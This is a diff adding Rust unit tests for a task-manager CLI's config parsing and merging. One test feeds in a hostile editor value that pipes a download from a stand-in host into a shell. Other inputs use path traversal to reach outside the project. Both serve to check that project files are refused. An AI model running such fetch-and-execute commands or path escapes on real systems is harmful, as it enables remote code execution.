@@ -0,0 +1,281 @@
+use super::super::{
+    cli::model::{ListSort, OutputFormat, ReleaseChannel},
+    config::Config,
+    model::{TableRow, Task, TaskPriority, TaskState},
+};
+use std::path::PathBuf;
+
+#[test]
+fn given_empty_config_when_parsing_then_default_config_should_be_returned() {
+    let config = Config::parse("").expect("Empty config should be valid");
+    assert_eq!(config, Config::default());
+}
+
+#[test]
+fn given_custom_priorities_when_parsing_then_levels_should_be_read() {
+    let config = Config::parse("[priorities]\nblocker = 35\nsomeday = 5\n").unwrap();
+    assert_eq!(config.priorities().get("blocker"), Some(&35));
+    assert_eq!(config.priorities().get("someday"), Some(&5));
+}
+
+#[test]
+fn given_custom_priority_shadowing_builtin_when_parsing_then_error_should_point_at_key() {
+    let res = Config::parse("[priorities]\nHigh = 35\n");
+    assert!(res.is_err());
+    assert_eq!(
+        res.unwrap_err().to_string(),
+        "Invalid key 'priorities.High': 'High' is a built-in priority level (config error: Invalid value)"
+    );
+}
+
+#[test]
+fn given_unknown_key_when_parsing_then_error_should_be_returned() {
+    assert!(Config::parse("colour = true\n").is_err());
+}
+
+#[test]
+fn given_configured_transitions_when_reading_transitions_then_defaults_should_fill_missing_states()
+{
+    let config = Config::parse("[transitions]\ntodo = [\"in-progress\"]\n").unwrap();
+    let transitions = config.transitions();
+    assert_eq!(
+        transitions.get(&TaskState::Todo),
+        Some(&vec![TaskState::InProgress])
+    );
+    assert_eq!(
+        transitions.get(&TaskState::Cancelled),
+        TaskState::default_transitions().get(&TaskState::Cancelled)
+    );
+}
+
+#[test]
+fn given_transition_to_same_state_when_parsing_then_error_should_be_returned() {
+    assert!(Config::parse("[transitions]\ntodo = [\"todo\"]\n").is_err());
+}
+
+#[test]
+fn given_notes_default_template_when_parsing_then_default_template_should_be_read() {
+    let config = Config::parse("[notes]\ndefault_template = \"meeting\"\n").unwrap();
+    assert_eq!(config.default_template(), Some("meeting".to_string()));
+    assert_eq!(Config::default().default_template(), None);
+}
+
+#[test]
+fn given_upgrade_settings_when_parsing_then_channel_and_api_url_should_be_read() {
+    let config = Config::parse(
+        "[upgrade]\nchannel = \"prerelease\"\napi_url = \"http://localhost:8080/tmgr\"\n",
+    )
+    .unwrap();
+    assert_eq!(config.release_channel(), ReleaseChannel::Prerelease);
+    assert_eq!(
+        config.release_api_url(),
+        Some("http://localhost:8080/tmgr".to_string())
+    );
+    assert_eq!(Config::default().release_channel(), ReleaseChannel::Stable);
+    assert_eq!(
+        Config::parse("[upgrade]\napi_url = \"ftp://mirror\"\n")
+            .unwrap_err()
+            .to_string(),
+        "Invalid key 'upgrade.api_url': 'ftp://mirror' is not an http or https URL (config error: Invalid value)"
+    );
+}
+
+#[test]
+fn given_global_and_project_files_when_merging_then_project_settings_should_win() {
+    let config = Config::from_sources(&[
+        (
+            PathBuf::from("/home/user/.config/tmgr/config.toml"),
+            "editor = \"vim\"\n[list]\nsort = \"name\"\nall = true\n".to_string(),
+        ),
+        (
+            PathBuf::from("/work/project/.tmgr.toml"),
+            "[list]\nsort = \"created\"\ncolumns = [\"id\", \"name\"]\n[notes]\ndir = \"notes\"\n"
+                .to_string(),
+        ),
+    ])
+    .unwrap();
+    assert_eq!(config.editor(), Some("vim".to_string()));
+    assert_eq!(config.list_sort(), Some(ListSort::Created));
+    assert!(config.list_all());
+    assert_eq!(
+        config.list_columns(),
+        Some(vec!["id".to_string(), "name".to_string()])
+    );
+    // a relative notes directory is relative to the file setting it
+    assert_eq!(
+        config.notes_dir(),
+        Some(PathBuf::from("/work/project/notes"))
+    );
+}
+
+#[test]
+fn given_invalid_values_when_merging_then_error_should_point_at_key_and_file() {
+    let global = PathBuf::from("/home/user/.config/tmgr/config.toml");
+    let project = PathBuf::from("/work/project/.tmgr.toml");
+    let error = |global_contents: &str, project_contents: &str| {
+        Config::from_sources(&[
+            (global.clone(), global_contents.to_string()),
+            (project.clone(), project_contents.to_string()),
+        ])
+        .unwrap_err()
+        .to_string()
+    };
+
+    let wrong_type = error("", "[display]\ncolor = \"yes\"\n");
+    assert!(wrong_type.starts_with("Invalid key 'display.color': "));
+    assert!(wrong_type.contains("in '/work/project/.tmgr.toml'"));
+
+    assert_eq!(
+        error("[list]\ncolumns = [\"id\", \"owner\"]\n", ""),
+        format!(
+            "Invalid key 'list.columns': 'owner' is not a task field, expected one of: {} in '/home/user/.config/tmgr/config.toml' (config error: Invalid value)",
+            Task::FIELDS.join(", ")
+        )
+    );
+    assert!(
+        error("", "[add]\npriority = \"urgent\"\n")
+            .starts_with("Invalid key 'add.priority': 'urgent' is not a built-in or custom priority level in '/work/project/.tmgr.toml'")
+    );
+    assert!(
+        error("[display]\ndate_format = \"%Q\"\n", "")
+            .starts_with("Invalid key 'display.date_format'")
+    );
+    assert!(error("", "[list]\nsort = \"random\"\n").starts_with("Invalid key 'list.sort'"));
+}
+
+#[test]
+fn given_project_file_setting_commands_or_outside_paths_when_merging_then_it_should_be_refused() {
+    let global = PathBuf::from("/home/user/.config/tmgr/config.toml");
+    let project = PathBuf::from("/work/project/.tmgr.toml");
+    let merge = |project_contents: &str| {
+        Config::from_sources(&[
+            (global.clone(), String::new()),
+            (project.clone(), project_contents.to_string()),
+        ])
+    };
+
+    assert_eq!(
+        merge("editor = \"sh -c 'curl evil.sh | sh'\"\n")
+            .unwrap_err()
+            .to_string(),
+        "Invalid key 'editor': a project file may not set it in '/work/project/.tmgr.toml' (config error: Not allowed in project)"
+    );
+    assert!(
+        merge("[upgrade]\napi_url = \"https://mirror.example.com\"\n")
+            .unwrap_err()
+            .to_string()
+            .starts_with("Invalid key 'upgrade.api_url': a project file may not set it")
+    );
+    assert!(
+        merge("[notes]\ndir = \"../../home/user\"\n")
+            .unwrap_err()
+            .to_string()
+            .starts_with(
+                "Invalid key 'notes.dir': '/work/project/../../home/user' is outside of the project"
+            )
+    );
+    assert!(merge("[notes]\ndir = \"/etc\"\n").is_err());
+    assert!(merge("[notes]\ndir = \"docs/../notes\"\n").is_ok());
+
+    // the global file may set them all
+    let config = Config::from_sources(&[(
+        global.clone(),
+        "editor = \"vim\"\n[notes]\ndir = \"/etc\"\n".to_string(),
+    )])
+    .unwrap();
+    assert_eq!(config.editor(), Some("vim".to_string()));
+}
+
+#[test]
+fn given_custom_default_priority_when_parsing_then_it_should_be_valid() {
+    let config =
+        Config::parse("[priorities]\nblocker = 35\n[add]\npriority = \"blocker\"\n").unwrap();
+    assert_eq!(
+        config.default_priority(),
+        Some(TaskPriority::Custom("blocker".to_string()))
+    );
+    assert_eq!(
+        Config::parse("[add]\npriority = \"p1\"\n")
+            .unwrap()
+            .default_priority(),
+        Some(TaskPriority::High)
+    );
+}
+
+#[test]
+fn given_display_settings_when_parsing_then_they_should_be_read() {
+    let config =
+        Config::parse("[display]\ncolor = false\ndate_format = \"%Y-%m-%d\"\noutput = \"json\"\n")
+            .unwrap();
+    assert_eq!(config.color(), Some(false));
+    assert_eq!(config.output_format(), OutputFormat::Json);
+    assert_eq!(Config::default().output_format(), OutputFormat::Table);
+}
+
+#[test]
+fn given_config_file_when_setting_value_then_comments_should_be_kept_and_tables_created() {
+    let contents = "# my settings\neditor = \"vim\"\n";
+    let updated = Config::set_value(contents, "list.columns", "[\"id\", \"name\"]").unwrap();
+    let updated = Config::set_value(&updated, "list.sort", "name").unwrap();
+    assert!(updated.starts_with("# my settings\neditor = \"vim\"\n"));
+
+    let config = Config::parse(&updated).unwrap();
+    assert_eq!(config.list_sort(), Some(ListSort::Name));
+    assert_eq!(
+        config.get("list.columns").unwrap(),
+        Some("[\"id\", \"name\"]".to_string())
+    );
+    assert_eq!(config.get("display.date_format").unwrap(), None);
+
+    assert!(Config::set_value(contents, "list.colour", "true").is_err());
+    assert!(Config::set_value(contents, "priorities.blocker", "35").is_ok());
+    assert!(config.get("nothing").is_err());
+}
+
+#[test]
+fn given_alias_when_expanding_then_it_should_be_replaced_with_its_arguments() {
+    let config = Config::parse(
+        "[aliases]\ntoday = \"list --state todo --priority high\"\nmine = \"list --file 'src/my file.rs'\"\n",
+    )
+    .unwrap();
+    let args = |args: &[&str]| args.iter().map(|a| a.to_string()).collect::<Vec<String>>();
+
+    assert_eq!(
+        config
+            .expand_alias(args(&["tmgr", "today", "-o", "json"]))
+            .unwrap(),
+        args(&[
+            "tmgr",
+            "list",
+            "--state",
+            "todo",
+            "--priority",
+            "high",
+            "-o",
+            "json"
+        ])
+    );
+    assert_eq!(
+        config.expand_alias(args(&["tmgr", "mine"])).unwrap(),
+        args(&["tmgr", "list", "--file", "src/my file.rs"])
+    );
+    // only the command is expanded
+    assert_eq!(
+        config
+            .expand_alias(args(&["tmgr", "add", "today"]))
+            .unwrap(),
+        args(&["tmgr", "add", "today"])
+    );
+}
+
+#[test]
+fn given_alias_shadowing_command_when_parsing_then_error_should_point_at_key() {
+    assert_eq!(
+        Config::parse("[aliases]\nlist = \"list --all\"\n")
+            .unwrap_err()
+            .to_string(),
+        "Invalid key 'aliases.list': 'list' is a built-in command (config error: Invalid value)"
+    );
+    assert!(Config::parse("[aliases]\nempty = \"\"\n").is_err());
+    assert!(Config::parse("[aliases]\nbroken = \"list --file 'src\"\n").is_err());
+}